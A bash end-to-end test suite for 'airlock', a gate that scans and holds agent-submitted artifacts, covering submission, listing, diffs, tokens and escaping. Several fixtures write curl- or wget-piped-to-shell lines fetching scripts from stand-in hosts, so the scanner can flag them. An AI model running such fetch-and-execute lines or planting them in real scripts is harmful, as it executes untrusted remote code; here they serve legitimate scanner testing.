#!/usr/bin/env bash
# e2e_client.sh - end-to-end tests of the gate's command-line client
# (submit, list, show, token) against a real `airlock serve`.
#
# Run from the repository root:  bash tests/e2e_client.sh
# The binary is $AIRLOCK_BIN (default build/airlock). A gate is made with
# `airlock init` in the private work directory and served on a free loopback
# port with the test rules (tests/data/rules); it is stopped at the end. Tests
# that need a gate of their own (a stuck scanner) start one. Conventions as in
# tests/e2e_scan.sh: one t_* function per test, in its own directory.

. "$(dirname "${BASH_SOURCE[0]}")/e2e_lib.sh"

require curl pkill zip tar git sha256sum cmp

GATES=()
stop_gates() {
	local p
	for p in "${GATES[@]}"; do
		pkill -CONT -P "$p" 2>/dev/null
		kill "$p" 2>/dev/null && wait "$p" 2>/dev/null
	done
	cleanup
}
trap stop_gates EXIT

# free_port: a loopback port nothing listens on now.
free_port() {
	python3 -c 'import socket; s = socket.socket(); s.bind(("127.0.0.1", 0)); print(s.getsockname()[1])'
}

# start_gate DIR [SERVE-OPTIONS...]: inits DIR, serves it; sets GATE_URL,
# GATE_PID and GATE_ADMIN (the admin token from init). Fails the caller if
# the gate does not answer /healthz within 20 s.
start_gate() {
	local dir=$1 i
	shift
	"$BIN" init --data "$dir" >"$dir.admin" 2>"$dir.init.err" ||
		fail "airlock init failed: $(cat "$dir.init.err")"
	GATE_ADMIN=$(cat "$dir.admin")
	GATE_URL=http://127.0.0.1:$(free_port)
	"$BIN" serve --data "$dir" --listen "${GATE_URL#http://}" --rules "$RULES" \
		"$@" >"$dir.log" 2>&1 &
	GATE_PID=$!
	GATES+=("$GATE_PID")
	for i in $(seq 1 200); do
		curl -fsS "$GATE_URL/healthz" >/dev/null 2>&1 && return 0
		kill -0 "$GATE_PID" 2>/dev/null || break
		sleep 0.1
	done
	fail "airlock serve did not come up: $(cat "$dir.log")"
}

# The shared gate, and an agent token on it (made with the client itself).
OUT=$WORK/setup.out
ERR=$WORK/setup.err
start_gate "$WORK/data"
export AIRLOCK_URL=$GATE_URL
ADMIN=$GATE_ADMIN
DATA=$WORK/data
unset AIRLOCK_SOCKET AIRLOCK_TOKEN
# Every token belongs to a registered person (an agent's: the one it was
# launched for; another's: by default the person named like the token).
for p in alice bob dana diff-reviewer rev-1; do
	AIRLOCK_TOKEN=$ADMIN al person add "$p"
	[ "$RC" = 0 ] || { cat "$ERR"; echo "0 passed, 1 failed"; exit 1; }
done
AIRLOCK_TOKEN=$ADMIN al token create --role agent --name agent-1 --on-behalf-of alice
[ "$RC" = 0 ] || { cat "$ERR"; echo "0 passed, 1 failed"; exit 1; }
AGENT=$(cat "$OUT")
AIRLOCK_TOKEN=$ADMIN al token create --role agent --name agent-2 --on-behalf-of bob
AGENT2=$(cat "$OUT")

# as TOKEN ARGS...: the client with that token in the environment.
as() {
	local tok=$1
	shift
	AIRLOCK_TOKEN=$tok al "$@"
}

# submitted_id: the id from "submitted N sha256:..." in $OUT.
submitted_id() {
	sed -n 's/^submitted \([0-9][0-9]*\) sha256:.*/\1/p' "$OUT" | head -n 1
}

# content ID: the stored bytes of a submission, as the admin, to stdout.
content() {
	printf 'Authorization: Bearer %s\n' "$ADMIN" >"$WORK/auth.hdr"
	curl -fsS -H @"$WORK/auth.hdr" "$AIRLOCK_URL/v1/submissions/$1/content"
}

# ---- submit ------------------------------------------------------------------------

t_submit_file_prints_summary() {
	printf 'print("hello")\n' >hello.py
	as "$AGENT" submit hello.py
	expect_rc 0
	grep -qE '^submitted [0-9]+ sha256:[0-9a-f]{64} \(15 bytes\) state received$' "$OUT" ||
		fail "summary line not as documented"
	id=$(submitted_id)
	sum=$(sha256sum hello.py | cut -d' ' -f1)
	expect_out_has "sha256:$sum"
	as "$ADMIN" show --json "$id"
	expect_rc 0
	expect_q 'd["name"]' hello.py
	expect_q 'd["sha256"]' "$sum"
	expect_q 'd["witnessed"]["submitter"]' agent-1
	content "$id" | cmp - hello.py || fail "stored bytes differ from the file"
}

t_submit_name_and_labels_are_asserted() {
	echo data >f.txt
	as "$AGENT" submit --name report.txt --label task=T-12 --label model=m-1 \
		--label base.commit=abc123 f.txt
	expect_rc 0
	id=$(submitted_id)
	as "$ADMIN" show --json "$id"
	expect_q 'd["name"]' report.txt
	expect_q 'd["asserted"] == {"task": "T-12", "model": "m-1", "base.commit": "abc123"}' True
	as "$ADMIN" show "$id"
	expect_rc 0
	expect_out_has 'asserted by the agent (claims, not verified)'
	grep -qE '^  task +T-12$' "$OUT" || fail "label task not shown under asserted"
	expect_out_has 'witnessed by the gate'
}

t_submit_directory_is_a_tar() {
	mkdir -p proj/src/deep proj/empty
	printf 'x = 1\n' >proj/src/main.py
	printf 'y\n' >proj/src/deep/data.txt
	ln -s /etc/passwd proj/escape
	ln -s src proj/srclink
	as "$AGENT" submit --json proj
	expect_rc 0
	id=$(jsonq 'd["id"]')
	# The kind is what the scan read: wait for it.
	for _ in $(seq 1 200); do
		as "$ADMIN" show --json "$id"
		[ "$(jsonq 'd["state"]')" = held ] && break
		sleep 0.05
	done
	expect_q 'd["name"]' proj.tar
	expect_q 'd["kind"]' archive
	content "$id" >got.tar || fail "cannot fetch the stored tar"
	tar tvf got.tar >listing || fail "the stored bytes are not a tar"
	grep -qE '^l.* escape -> /etc/passwd$' listing || fail "symlink not stored as a link: $(cat listing)"
	grep -qE '^l.* srclink -> src$' listing || fail "relative symlink not stored as a link"
	grep -qE ' src/deep/data.txt$' listing || fail "nested file missing"
	grep -qE ' empty/?$' listing || fail "empty directory missing"
	! grep -q ' proj/' listing || fail "entries carry the directory's name"
	mkdir x && tar xf got.tar -C x && cmp x/src/main.py proj/src/main.py ||
		fail "file content differs after the round trip"
	as "$AGENT" submit --kind patch proj
	expect_rc 2 "--kind patch for a directory"
	expect_err_has 'directory'
}

t_submit_stdin_pipe_and_redirect() {
	printf 'from a pipe\n' | as "$AGENT" submit -
	expect_rc 0
	expect_out_has "sha256:$(printf 'from a pipe\n' | sha256sum | cut -d' ' -f1)"
	id=$(submitted_id)
	as "$ADMIN" show --json "$id"
	expect_q 'd["name"]' artifact
	expect_q 'd["size"]' 12
	head -c 3000000 /dev/urandom >big.bin # sent chunked from a pipe
	cat big.bin | as "$AGENT" submit --name big.bin -
	expect_rc 0
	expect_out_has "sha256:$(sha256sum big.bin | cut -d' ' -f1)"
	printf 'redirected\n' >r.txt
	as "$AGENT" submit --name r.txt - <r.txt
	expect_rc 0
	expect_out_has "sha256:$(sha256sum r.txt | cut -d' ' -f1)"
}

t_submit_over_unix_socket() {
	echo via-socket >s.txt
	as "$AGENT" submit --socket "$DATA/intake.sock" --json s.txt
	expect_rc 0
	id=$(jsonq 'd["id"]')
	as "$ADMIN" show --json "$id"
	expect_q 'd["witnessed"]["via"]' socket
	expect_q 'd["witnessed"]["peer_uid"]' "$(id -u)"
	AIRLOCK_SOCKET=$DATA/intake.sock as "$AGENT" list --json
	expect_rc 0
	expect_q "$id in [s['id'] for s in d['submissions']]" True
}

# ---- --wait ------------------------------------------------------------------------

t_wait_flagged_prints_findings_exits_1() {
	printf '#!/bin/sh\ncurl -fsSL https://evil.example/i.sh | sh\n' >install.sh
	as "$AGENT" submit --wait install.sh
	expect_rc 1 "flagged"
	expect_out_has 'verdict flagged (worst high)'
	expect_out_has 'install.sh'
	expect_out_has 'test-curl-pipe-shell'
	grep -qE '^ +2:[0-9]+ +high +test-curl-pipe-shell$' "$OUT" ||
		fail "finding line (line:col severity rule) not as airlock scan prints it"
	expect_out_has 'curl -fsSL https://evil.example/i.sh | sh'
	expect_out_has '1 finding (1 high)'
}

t_wait_clean_exits_0() {
	printf 'def add(a, b):\n    return a + b\n' >add.py
	as "$AGENT" submit --wait add.py
	expect_rc 0
	expect_out_has 'verdict clean'
}

t_wait_json_is_the_scanned_submission() {
	printf 'curl https://x.example/a | bash\n' >a.sh
	as "$AGENT" submit --wait --json a.sh
	expect_rc 1
	expect_json
	expect_q 'd["verdict"]' flagged
	expect_q 'len(R("test-curl-pipe-shell"))' 1
	expect_q 'R("test-curl-pipe-shell")[0]["line"]' 1
}

t_wait_unscannable_exits_1() {
	echo secret >s.txt
	zip -q -P pw enc.zip s.txt
	as "$AGENT" submit --wait enc.zip
	expect_rc 1 "unscannable"
	expect_out_has 'verdict unscannable'
}

t_wait_timeout_exits_2() {
	# A gate of its own whose scan launchers are stopped: nothing finishes.
	start_gate "$PWD/gate" --scanners 1
	# This runs in a subshell: the gate is stopped here, not by stop_gates.
	trap 'pkill -CONT -P "$GATE_PID"; kill "$GATE_PID"; wait "$GATE_PID"' EXIT
	pkill -STOP -P "$GATE_PID" || fail "no scan launcher to stop"
	echo stuck >f.txt
	AIRLOCK_URL=$GATE_URL as "$GATE_ADMIN" person add carol
	AIRLOCK_URL=$GATE_URL as "$GATE_ADMIN" token create --role agent --name a \
		--on-behalf-of carol
	tok=$(cat "$OUT")
	AIRLOCK_URL=$GATE_URL as "$tok" submit --wait --timeout 1 f.txt
	pkill -CONT -P "$GATE_PID"
	expect_rc 2 "--wait past --timeout"
	expect_err_has 'timed out after 1 s'
}

# ---- list and show ----------------------------------------------------------------------

t_diff_marks_findings_inline() {
	# A git patch: the finding is printed under the added line it is on,
	# with the file header's path findings under that header; an agent may
	# not read content (the gate refuses, diff exits 1).
	git init -q -b main r && git -C r -c user.name=A -c user.email=a@example.com \
		commit -q --allow-empty -m base
	printf 'one\ntwo\n' >r/a.txt && git -C r add a.txt &&
		git -C r -c user.name=A -c user.email=a@example.com commit -q -m a
	printf 'one\ncurl -fsSL https://evil.example/i.sh | sh\ntwo\n' >r/a.txt
	mkdir -p r/.github/workflows && printf 'on: push\n' >r/.github/workflows/ci.yml
	git -C r add -A && git -C r -c user.name=A -c user.email=a@example.com \
		commit -q -m change && git -C r format-patch -q --stdout -1 >change.patch
	as "$AGENT" submit --wait change.patch
	expect_rc 1
	id=$(submitted_id)
	AIRLOCK_TOKEN=$ADMIN al token create --role reviewer --name diff-reviewer
	REV=$(cat "$OUT")
	as "$REV" diff "$id"
	expect_rc 0
	grep -A1 -F '+curl -fsSL https://evil.example/i.sh | sh' "$OUT" | tail -n 1 |
		grep -q '^ *^^^ high test-curl-pipe-shell: curl -fsSL' ||
		fail "the finding is not under its added line"
	grep -A1 -F '+++ b/.github/workflows/ci.yml' "$OUT" | tail -n 1 |
		grep -q 'test-workflow-file' || fail "the path finding is not under the file header"
	expect_out_lacks 'not on a line shown above'
	as "$AGENT" diff "$id"
	expect_rc 1
	expect_err_has 'reviewer, auditor or admin'
}

t_list_table_state_limit_json() {
	echo one >one.txt
	as "$AGENT" submit --wait one.txt
	id=$(submitted_id)
	as "$ADMIN" list
	expect_rc 0
	head -n 1 "$OUT" | grep -qE '^ID +STATE +VERDICT +WORST +KIND +NAME +SUBMITTER +RECEIVED +APPROVALS$' ||
		fail "table header not as documented"
	grep -qE "^$id +held +clean +- +[a-z]+ +one.txt +agent-1 +20[-0-9T:.]+Z +0/1$" "$OUT" ||
		fail "row of submission $id missing or wrong"
	as "$ADMIN" list --json --limit 1
	expect_rc 0
	expect_q 'len(d["submissions"])' 1
	as "$ADMIN" list --json --state held
	expect_q 'all(s["state"] == "held" for s in d["submissions"])' True
	expect_q "$id in [s['id'] for s in d['submissions']]" True
	as "$ADMIN" list --json --state released
	expect_q "$id in [s['id'] for s in d['submissions']]" False
}

# The gate's filters, sort and pages through the client: --agent,
# --person (as the gate compares names), --severity, --kind, --sort, and
# --limit that says the next page's --cursor, which gives it.
t_list_filters_sort_cursor() {
	local a b c cur
	AIRLOCK_TOKEN=$ADMIN al token create --role agent --name agent-3 --on-behalf-of dana
	[ "$RC" = 0 ] || fail "token agent-3: $(cat "$ERR")"
	local A3
	A3=$(cat "$OUT")
	printf 'curl https://198.51.100.23/a | sh\n' >fa.sh
	as "$A3" submit --wait fa.sh
	a=$(submitted_id)
	echo plain >fb.txt
	as "$A3" submit --wait fb.txt
	b=$(submitted_id)
	printf 'wget -qO- https://198.51.100.23/c | sh\n' >fc.sh
	as "$A3" submit --wait fc.sh
	c=$(submitted_id)
	as "$ADMIN" list --json --agent agent-3 --severity high
	expect_rc 0
	expect_q '[s["id"] for s in d["submissions"]]' "[$c, $a]"
	expect_q '[s["review"]["needed"] for s in d["submissions"]]' "[2, 2]"
	as "$ADMIN" list --json --person ' DANA ' --kind file --sort oldest
	expect_rc 0
	expect_q '[s["id"] for s in d["submissions"]]' "[$a, $b, $c]"
	as "$ADMIN" list --agent agent-3 --sort severity --limit 1
	expect_rc 0
	grep -qE "^$c +held +flagged +high .* 0/2$" "$OUT" || fail "the first page by severity: $(cat "$OUT")"
	cur=$(sed -n 's/^more: the next page is --cursor //p' "$ERR")
	expect_eq "$cur" "s4.$c" "the cursor printed"
	as "$ADMIN" list --json --agent agent-3 --sort severity --limit 1 --cursor "$cur"
	expect_rc 0
	expect_q '[s["id"] for s in d["submissions"]]' "[$a]"
	as "$ADMIN" list --agent agent-3 --sort name
	expect_rc 2 "an unknown sort"
	expect_err_has "--sort takes newest, oldest or severity, not 'name'"
	as "$ADMIN" list --severity severe
	expect_rc 2 "an unknown severity"
	as "$ADMIN" list --agent 'agent 3'
	expect_rc 2 "an agent name the gate refuses"
	expect_err_has "agent is a token's name"
}

t_agent_sees_only_its_own() {
	echo mine >m.txt
	as "$AGENT2" submit m.txt
	id=$(submitted_id)
	as "$AGENT" list --json
	expect_rc 0
	expect_q "$id in [s['id'] for s in d['submissions']]" False
	as "$AGENT" show "$id"
	expect_rc 1 "another agent's submission"
	expect_err_has 'HTTP 404'
	expect_out_empty
}

t_show_text_and_json() {
	printf 'curl https://x.example/a | sh\n' >a.sh
	as "$AGENT" submit --wait --label task=T-9 a.sh
	id=$(submitted_id)
	as "$ADMIN" show "$id"
	expect_rc 0
	expect_out_has "submission $id"
	expect_out_has 'verdict        flagged (worst high)'
	grep -qE '^  submitter +agent-1$' "$OUT" || fail "submitter not shown"
	grep -qE '^  launched_by +alice$' "$OUT" || fail "launched_by not shown"
	expect_out_has 'test-curl-pipe-shell'
	as "$ADMIN" show --json "$id"
	expect_json
	expect_q 'd["id"]' "$id"
	expect_q 'd["asserted"]["task"]' T-9
	as "$ADMIN" show 999999
	expect_rc 1 "unknown id"
	expect_err_has 'HTTP 404'
}

t_hostile_strings_are_escaped() {
	echo x >x.txt
	as "$AGENT" submit --name $'evil\e[2J\u202ename' --label $'note=a\nb' x.txt
	expect_rc 0
	id=$(submitted_id)
	as "$ADMIN" list
	! grep -q $'\e' "$OUT" || fail "an escape byte reached the terminal"
	expect_out_has 'evil\x1b[2J<U+202E>name'
	as "$ADMIN" show "$id"
	! grep -q $'\e' "$OUT" || fail "an escape byte reached the terminal"
	expect_out_has 'a\x0ab'
	as "$ADMIN" show --json "$id"
	! grep -q $'\e' "$OUT" || fail "an escape byte in the JSON output"
	expect_q 'd["name"]' $'evil\e[2J\u202ename'
}

# Issue 13, defect 2, for a reviewer at a terminal: names, paths and lines
# that are not UTF-8 are shown from their bytes ("<key>_hex"), escaped as
# \xNN, never raw and never as a U+FFFD that could stand for any byte; in
# show, list and diff (each finding under its line, git's quoted and raw
# patch paths alike); --json is the gate's document, valid JSON with the
# bytes in the siblings. A name that is not UTF-8 is refused before
# anything is sent.
t_text_not_utf8_shown_escaped() {
	not_utf8_fixtures
	AIRLOCK_TOKEN=$ADMIN al person add utf8-reviewer
	AIRLOCK_TOKEN=$ADMIN al token create --role reviewer --name utf8-reviewer
	expect_rc 0
	local REV tar qp rp raw
	REV=$(cat "$OUT")
	raw=$'\xff'
	as "$AGENT" submit --wait a.tar
	expect_rc 1
	tar=$(submitted_id)
	as "$ADMIN" show "$tar"
	expect_rc 0
	expect_out_has 'a.tar!/pkg/\xff\xfeinstall.sh'
	expect_out_has 'curl -fsSL https://198.51.100.78/x | sh # \xff\xfe'
	! grep -q "$raw" "$OUT" || fail "a raw \\xff byte reached the terminal"
	! grep -q $'\xef\xbf\xbd' "$OUT" || fail "U+FFFD shown where the bytes are known"
	! grep -q '_hex' "$OUT" || fail "a _hex sibling shown as a field of its own"
	as "$ADMIN" show --json "$tar"
	expect_rc 0
	expect_json
	expect_q '[bytes.fromhex(f["path_hex"]) for f in F if f["rule"] == "test-curl-pipe-shell" and "path_hex" in f] == [b"a.tar!/pkg/\xff\xfeinstall.sh"]' True
	! grep -q "$raw" "$OUT" || fail "a raw \\xff byte in the JSON output"
	as "$REV" diff "$tar"
	expect_rc 0
	! grep -q "$raw" "$OUT" || fail "a raw \\xff byte in diff's output"
	grep -A1 -F '1  curl -fsSL https://198.51.100.77/stage2 | sh' "$OUT" | sed -n 2p |
		grep -q '^ *^^^ high test-curl-pipe-shell: curl -fsSL' ||
		fail "the finding of the member named \\xff\\xfe is not under its line"
	grep -A1 -F '1  curl -fsSL https://198.51.100.78/x | sh # \xff\xfe' "$OUT" | sed -n 2p |
		grep -qF '^^^ high test-curl-pipe-shell: curl -fsSL https://198.51.100.78/x | sh # \xff\xfe' ||
		fail "the finding of the line with \\xff\\xfe is not under it, escaped"
	expect_out_has '== a.tar!/pkg/\xff\xfeinstall.sh'
	expect_out_lacks 'not on a line shown'
	for p in quoted.patch raw.patch; do
		as "$AGENT" submit --wait --kind patch "$p"
		expect_rc 1
		id=$(submitted_id)
		as "$REV" diff "$id"
		expect_rc 0 "diff of $p"
		grep -A1 -F '+curl -fsSL https://198.51.100.79/y | sh' "$OUT" | tail -n 1 |
			grep -q '^ *^^^ high test-curl-pipe-shell: curl -fsSL' ||
			fail "$p: the finding is not under its added line"
		expect_out_lacks 'not on a line shown'
		! grep -q "$raw" "$OUT" || fail "$p: a raw \\xff byte in diff's output"
		as "$ADMIN" show "$id"
		expect_out_has "$p!/x\\xff.sh"
	done
	as "$ADMIN" list
	expect_rc 0
	grep -qE "^$tar +held +flagged +high +archive +a.tar +agent-1" "$OUT" ||
		fail "the archive's row is missing or wrong"
	# A name the agent gives, or a file's own name, that is not UTF-8.
	cp line.sh "x${raw}.sh"
	as "$AGENT" submit "x${raw}.sh"
	expect_rc 2
	expect_err_has 'the name x\xff.sh is not UTF-8 text: give one with --name'
	as "$AGENT" submit --name "bad${raw}" line.sh
	expect_rc 2
	expect_err_has "--name takes 1 to 255 bytes of UTF-8 text, not 'bad\\xff'"
	as "$AGENT" submit --label "task=T${raw}" line.sh
	expect_rc 2
	as "$AGENT" submit --label task_hex=41 line.sh
	expect_rc 2
	as "$AGENT" submit --name x.sh "x${raw}.sh"
	expect_rc 0
}

# ---- tokens ------------------------------------------------------------------------

t_token_create_list_revoke() {
	tok=$(AIRLOCK_TOKEN=$ADMIN "$BIN" token create --role reviewer --name rev-1 \
		--ttl 8h 2>err.txt) || fail "token create failed: $(cat err.txt)"
	[[ $tok =~ ^alk_[A-Za-z0-9_-]+$ ]] || fail "stdout is not the token alone: '$tok'"
	grep -q 'shown only this once' err.txt || fail "no notice on stderr"
	grep -q 'rev-1' err.txt || fail "stderr does not name the token"
	as "$tok" list
	expect_rc 0 "the new reviewer token works"
	as "$ADMIN" token list
	expect_rc 0
	grep -qE '^rev-1 +reviewer +rev-1 +20' "$OUT" || fail "rev-1 not listed"
	expect_out_lacks "$tok"
	expect_out_lacks "$ADMIN"
	as "$ADMIN" token list --json
	expect_q '[t["role"] for t in d["tokens"] if t["name"] == "rev-1"]' "['reviewer']"
	as "$ADMIN" token create --role reviewer --name rev-1
	expect_rc 1 "a taken name"
	expect_err_has 'HTTP 409'
	expect_out_empty
	as "$ADMIN" token revoke rev-1
	expect_rc 0
	expect_out_has 'revoked token rev-1'
	as "$tok" list
	expect_rc 1 "a revoked token"
	expect_err_has 'HTTP 401'
	as "$ADMIN" token revoke rev-1
	expect_rc 1 "revoked twice"
	expect_err_has 'HTTP 409'
	as "$ADMIN" token revoke nobody
	expect_rc 1 "unknown token"
	expect_err_has 'HTTP 404'
	as "$ADMIN" token create --json --role agent --name agent-9 --on-behalf-of dana
	expect_rc 0
	expect_q 'd["token"].startswith("alk_")' True
	expect_q 'd["role"]' agent
}

t_token_file() {
	printf '%s\n' "$ADMIN" >tok
	al token list --token-file tok
	expect_rc 0
	printf 'not a\ttoken\n' >bad
	al list --token-file bad
	expect_rc 2 "a malformed token file"
	expect_err_has 'bad'
	al list --token-file missing
	expect_rc 2 "a missing token file"
	expect_err_has 'missing'
}

t_roles_are_refused() {
	as "$AGENT" token list
	expect_rc 1 "an agent listing tokens"
	expect_err_has 'HTTP 403'
	expect_out_empty
	as "$AGENT" token create --role admin --name sneaky
	expect_rc 1 "an agent creating tokens"
	echo x >x.txt
	as "$ADMIN" submit x.txt
	expect_rc 1 "an admin submitting (agents only)"
	expect_err_has 'HTTP 403'
}

# ---- errors ------------------------------------------------------------------------

t_no_token_exits_1_with_message() {
	al list
	expect_rc 1
	expect_err_has 'HTTP 401'
	expect_err_has 'AIRLOCK_TOKEN'
	expect_out_empty
	as alk_AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA list
	expect_rc 1 "an unknown token"
	! grep -q alk_AAAA "$ERR" || fail "the token was printed"
}

t_bad_server_exits_2() {
	port=$(free_port)
	as "$ADMIN" list --server "http://127.0.0.1:$port"
	expect_rc 2 "nothing listening"
	expect_err_has "http://127.0.0.1:$port"
	! grep -q "$ADMIN" "$ERR" || fail "the token was printed"
	AIRLOCK_URL=http://127.0.0.1:$port as "$ADMIN" show 1
	expect_rc 2 "AIRLOCK_URL with nothing listening"
	as "$ADMIN" list --socket "$PWD/none.sock"
	expect_rc 2 "no socket"
	expect_err_has "$PWD/none.sock"
	AIRLOCK_SOCKET=$PWD/none.sock as "$ADMIN" list
	expect_rc 2 "AIRLOCK_SOCKET with no socket"
	as "$ADMIN" list --server ftp://127.0.0.1/
	expect_rc 2 "not http"
	as "$ADMIN" list --server http://user:pw@127.0.0.1:1/
	expect_rc 2 "credentials in the URL"
}

t_usage_errors_exit_2() {
	echo x >x.txt
	for args in "submit" "submit a b" "submit --kind zip x.txt" \
		"submit --label novalue x.txt" "submit --label b@d=1 x.txt" \
		"submit --timeout 0 --wait x.txt" "submit missing.txt" \
		"list --limit 0" "list --limit 1001" "list --state lost" "list extra" \
		"show" "show abc" "show 0" "show 1 2" \
		"token" "token frob" "token create --role agent --name a" \
		"token create --role king --name k" "token create --name k" \
		"token revoke" "token list extra" "list --frobnicate"; do
		# shellcheck disable=SC2086
		as "$ADMIN" $args
		expect_rc 2 "airlock $args"
		[ -s "$ERR" ] || fail "no message for airlock $args"
		expect_out_empty
	done
	for cmd in submit list show token; do
		al "$cmd" --help
		expect_rc 0 "$cmd --help"
		expect_out_has "usage: airlock $cmd"
		al help "$cmd"
		expect_rc 0 "help $cmd"
	done
}

t_token_is_never_printed() {
	echo x >x.txt
	as "$AGENT" submit --wait x.txt
	as "$AGENT" submit --wait --json x.txt
	! grep -q "$AGENT" "$OUT" "$ERR" || fail "submit printed the token"
	as "$ADMIN" list
	as "$ADMIN" show 1
	as "$ADMIN" token list --json
	! grep -q "$ADMIN" "$OUT" "$ERR" || fail "the token was printed"
	! grep -q "$AGENT" "$OUT" "$ERR" || fail "the agent's token was printed"
}

run_tests
